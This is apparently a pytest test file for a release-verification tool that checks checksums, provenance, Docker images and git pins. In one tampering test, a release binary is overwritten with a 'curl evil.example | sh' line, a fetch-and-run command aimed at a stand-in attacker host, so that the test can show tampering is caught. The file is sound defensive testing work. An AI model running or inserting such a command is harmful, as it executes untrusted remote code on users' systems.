"""verify_release: a finished release re-checked against SHA256SUMS, release.json, provenance.json,
the Docker engine and the refs of the manifest."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from orchestrator import provenance
from orchestrator import record as records
from orchestrator.conformance import WrongManifestError
from orchestrator.engine.dockerpy import Engine
from orchestrator.manifest import Manifest
from orchestrator.record import ReleaseRecordError
from orchestrator.refs import MovedRefError
from orchestrator.sources import FetchOptions
from orchestrator.verify import VerifyReport, format_report, resolve_pins, verify_release
from tests.helpers.fake_docker import FakeDockerClient
from tests.helpers.fake_registry import FakeRegistry
from tests.helpers.gitrepos import build_upstream
from tests.helpers.registry import APP_COMMIT, LIB_COMMIT, add_images, make_release, small_manifest

COMMITS = {"app": APP_COMMIT, "lib": LIB_COMMIT}


def verify(release_dir: Path, manifest: Manifest, fake: FakeDockerClient | None, **kw: Any) -> VerifyReport:
    """verify_release with the fake engine; the release is unsigned, so the signature is
    skipped unless the test says otherwise (tests/test_signing.py checks signatures)."""
    kw.setdefault("commits", COMMITS)
    kw.setdefault("skip", ("signature",))
    return verify_release(release_dir, manifest, engine=Engine(fake) if fake else None, **kw)


def failures(report: VerifyReport) -> dict[str, str]:
    return {check.what: check.detail for check in report.failures}


def test_a_good_release_passes_every_check(release_dir: Path, manifest: Manifest, fake: FakeDockerClient) -> None:
    report = verify(release_dir, manifest, fake)

    assert report.ok and not report.unchecked, format_report(report)
    whats = [check.what for check in report.checks]
    assert "file bin/app" in whats and "file src/lib-main.tar.gz" in whats
    assert "image registry.example.invalid:5000/team/app/image:latest (app/image)" in whats
    assert "pin app v1.0.0" in whats and "provenance.json" in whats
    assert "release.json artifacts" in whats and "release.json repos" in whats
    assert "[ok]    image lib/image:v1.0.0 (lib/image): id sha256:" in format_report(report)
    assert ", 1 layer(s) as recorded" in format_report(report)
    assert "  [skip]  signature: not checked (--skip signature)" in format_report(report)
    assert format_report(report).endswith(
        "release v1.0.0 verified (12 matched, 0 did not, 0 not checked, skipped: signature)")


def test_a_tampered_file_fails_and_the_report_names_it(
    release_dir: Path, manifest: Manifest, fake: FakeDockerClient
) -> None:
    (release_dir / "bin/app").write_text("#!/bin/sh\ncurl evil.example | sh\n")

    report = verify(release_dir, manifest, fake)

    assert not report.ok
    assert list(failures(report)) == ["file bin/app"]
    assert failures(report)["file bin/app"].startswith("changed: sha256 ")
    text = format_report(report)
    assert "[FAIL]  file bin/app: changed" in text
    assert "does NOT match its record" in text.splitlines()[-2] and text.splitlines()[-1].startswith("  file bin/app")


def test_a_missing_file_fails(release_dir: Path, manifest: Manifest, fake: FakeDockerClient) -> None:
    (release_dir / "src/lib-main.tar.gz").unlink()

    assert failures(verify(release_dir, manifest, fake)) == {
        "file src/lib-main.tar.gz": "missing (listed in SHA256SUMS)"
    }


def test_a_file_listed_in_sha256sums_but_not_in_release_json_fails(
    release_dir: Path, manifest: Manifest, fake: FakeDockerClient
) -> None:
    (release_dir / "bin/extra").write_text("extra\n")
    with (release_dir / "SHA256SUMS").open("a") as sums:
        sums.write("0a8a8e3e1f8f1b6a7c1f4c0f5b4b0e3c5f6f1c0e3b7a9f5f5d0d4b2c6a1e2f3d  bin/extra\n")

    found = failures(verify(release_dir, manifest, fake))

    assert list(found) == ["file bin/extra"]
    assert "changed" in found["file bin/extra"]


def test_a_file_in_release_json_but_not_in_sha256sums_fails(
    release_dir: Path, manifest: Manifest, fake: FakeDockerClient
) -> None:
    sums = release_dir / "SHA256SUMS"
    sums.write_text("".join(line + "\n" for line in sums.read_text().splitlines() if "bin/app" not in line))

    assert failures(verify(release_dir, manifest, fake)) == {
        "file bin/app": "in release.json but not listed in SHA256SUMS"
    }


def test_a_file_that_no_record_lists_fails_and_a_leftover_temp_file_is_named_as_such(
    release_dir: Path, manifest: Manifest, fake: FakeDockerClient
) -> None:
    (release_dir / "bin/backdoor").write_text("x\n")
    (release_dir / "bin/.app.tmp-1-2f").write_text("a temp file of an interrupted build\n")

    assert failures(verify(release_dir, manifest, fake)) == {
        "file bin/backdoor": "in the release directory but in no record",
        "file bin/.app.tmp-1-2f": "a leftover temporary file of an interrupted write of app (pid 1); delete it",
    }


def test_provenance_that_disagrees_with_release_json_fails_naming_the_subject(
    release_dir: Path, manifest: Manifest, fake: FakeDockerClient
) -> None:
    path = release_dir / "provenance.json"
    statement = json.loads(path.read_text())
    statement["subject"][0]["digest"]["sha256"] = "0" * 64
    statement["predicate"]["buildDefinition"]["resolvedDependencies"][1]["digest"]["gitCommit"] = "1" * 40
    path.write_text(json.dumps(statement))

    found = failures(verify(release_dir, manifest, fake))

    app = json.loads((release_dir / "release.json").read_text())["artifacts"]["app"]["files"][0]["sha256"]
    assert found == {
        "provenance subject[bin/app].digest.sha256": f'provenance.json says "{"0" * 64}", release.json says "{app}"',
        "provenance predicate.buildDefinition.resolvedDependencies[lib].digest.gitCommit":
            f'provenance.json says "{"1" * 40}", release.json says "{LIB_COMMIT}"',
    }


def test_missing_provenance_fails(release_dir: Path, manifest: Manifest, fake: FakeDockerClient) -> None:
    (release_dir / "provenance.json").unlink()

    assert failures(verify(release_dir, manifest, fake)) == {
        "provenance.json": "missing; rebuild the release to write it"
    }


def test_a_release_built_from_another_manifest_is_refused_naming_both_manifests(
    release_dir: Path, manifest: Manifest, fake: FakeDockerClient, tmp_path: Path
) -> None:
    other = tmp_path / "other"
    other.mkdir()
    changed = small_manifest(other, manifest.path.read_text() + "# edited\n")

    with pytest.raises(WrongManifestError) as caught:
        verify(release_dir, changed, fake)

    assert str(caught.value).startswith(
        f"{release_dir / 'release.json'} was built from another manifest: {manifest.path} (sha256 {manifest.sha256}),"
        f" not {changed.path} (sha256 {changed.sha256})\n  hint: pass --manifest {manifest.path}")
    assert caught.value.exit_code == 1


def test_a_ref_that_now_resolves_elsewhere_fails_naming_both_commits(
    release_dir: Path, manifest: Manifest, fake: FakeDockerClient
) -> None:
    moved = "f" * 40

    found = failures(verify(release_dir, manifest, fake, commits={**COMMITS, "lib": moved}))

    assert found == {"pin lib main": f"now resolves to {moved}, the release was built from {LIB_COMMIT}"}


def test_a_pin_that_fails_to_resolve_fails_with_the_reason(
    release_dir: Path, manifest: Manifest, fake: FakeDockerClient
) -> None:
    error = MovedRefError("app", "tag", "v1.0.0", "https://example.invalid/app.git", expected=APP_COMMIT,
                          actual="f" * 40)

    found = failures(verify(release_dir, manifest, fake, commits={**COMMITS, "app": error}))

    assert found["pin app v1.0.0"].startswith("app: tag 'v1.0.0' in https://example.invalid/app.git is at ffff")


def test_a_replaced_image_fails(release_dir: Path, manifest: Manifest, fake: FakeDockerClient) -> None:
    other = fake.add_image("lib/image:v1.0.0", labels={"rebuilt": "yes"})

    found = failures(verify(release_dir, manifest, fake))

    assert list(found) == ["image lib/image:v1.0.0 (lib/image)"]
    assert found["image lib/image:v1.0.0 (lib/image)"].startswith(f"is now {other}, release.json records sha256:")


def test_a_removed_image_fails(release_dir: Path, manifest: Manifest) -> None:
    found = failures(verify(release_dir, manifest, FakeDockerClient()))

    assert len(found) == 3
    assert found["image lib/image:v1.0.0 (lib/image)"].startswith("not in the Docker engine")


def test_without_an_engine_or_resolved_refs_those_checks_are_reported_not_checked_not_passed(
    release_dir: Path, manifest: Manifest
) -> None:
    report = verify(release_dir, manifest, None, commits=None)

    assert report.matches and not report.ok, "nothing found wrong, but not everything checked"
    assert {check.what: check.detail for check in report.unchecked} == {
        "image registry.example.invalid:5000/team/app/image:v1.0.0 (app/image)": "not checked: no Docker engine",
        "image registry.example.invalid:5000/team/app/image:latest (app/image)": "not checked: no Docker engine",
        "image lib/image:v1.0.0 (lib/image)": "not checked: no Docker engine",
        "pin app v1.0.0": "not checked: refs not resolved",
        "pin lib main": "not checked: refs not resolved",
    }
    text = format_report(report)
    assert "[--]    pin lib main: not checked" in text
    assert "release v1.0.0 is not verified: 5 check(s) did not run (7 matched, 0 did not, 5 not checked, " \
           "skipped: signature):" in text
    assert text.endswith("  pin lib main: not checked: refs not resolved\n"
                         "  (run them, or say not to: --skip images,pins)")


def test_a_failed_build_does_not_verify(tmp_path: Path, manifest: Manifest, fake: FakeDockerClient) -> None:
    release_dir = tmp_path / "dist" / manifest.release
    make_release(release_dir, manifest, add_images(fake, manifest), failed={"lib": "boom"})

    assert failures(verify(release_dir, manifest, fake)) == {"release.json status": "not complete: lib failed"}


def test_a_release_without_release_json_is_an_error_that_says_to_build(tmp_path: Path, manifest: Manifest) -> None:
    with pytest.raises(ReleaseRecordError, match=r"release.json does not exist\n  hint: build the release first"):
        verify_release(tmp_path / "dist" / "v1.0.0", manifest, engine=None, commits=None)


def test_published_images_verify_once_provenance_is_rewritten_with_their_digests(
    release_dir: Path, manifest: Manifest, fake: FakeDockerClient
) -> None:
    record = json.loads((release_dir / "release.json").read_text())
    image = record["artifacts"]["lib/image"]["images"][0]
    image["pushed"] = {"lib/image:v1.0.0": {"digest": "sha256:" + "d" * 64, "id": image["id"]}}
    (release_dir / "release.json").write_text(json.dumps(record))

    fake.registry["lib/image:v1.0.0"] = "sha256:" + "d" * 64
    asked = FakeRegistry(fake)
    assert list(failures(verify(release_dir, manifest, fake, registry=asked))) == [
        "provenance subject[lib/image:v1.0.0].digest.sha256"]
    provenance.write_provenance(records.read(release_dir), release_dir)
    assert verify(release_dir, manifest, fake, registry=asked).ok
    assert asked.asked == ["lib/image:v1.0.0", "lib/image:v1.0.0"]


def test_resolve_pins_keeps_the_error_of_a_moved_tag_for_its_repo_only(tmp_path: Path) -> None:
    upstream = build_upstream(tmp_path / "upstream")
    text = f"""\
schema: 1
release: r1
repos:
  good:
    url: {upstream.url}
    ref: v1.0
    artifacts: {{}}
  moved:
    url: {upstream.url}
    ref: v1.1
    commit: {upstream.commits["c1"]}
    artifacts: {{}}
"""
    manifest = small_manifest(tmp_path, text)
    options = FetchOptions(cache_dir=tmp_path / "cache", checkout_dir=tmp_path / "src", backoff=0.0)

    commits = resolve_pins(manifest, options)

    assert commits["good"] == upstream.commits["c2"]
    assert isinstance(commits["moved"], MovedRefError)
    assert list(commits) == ["good", "moved"]
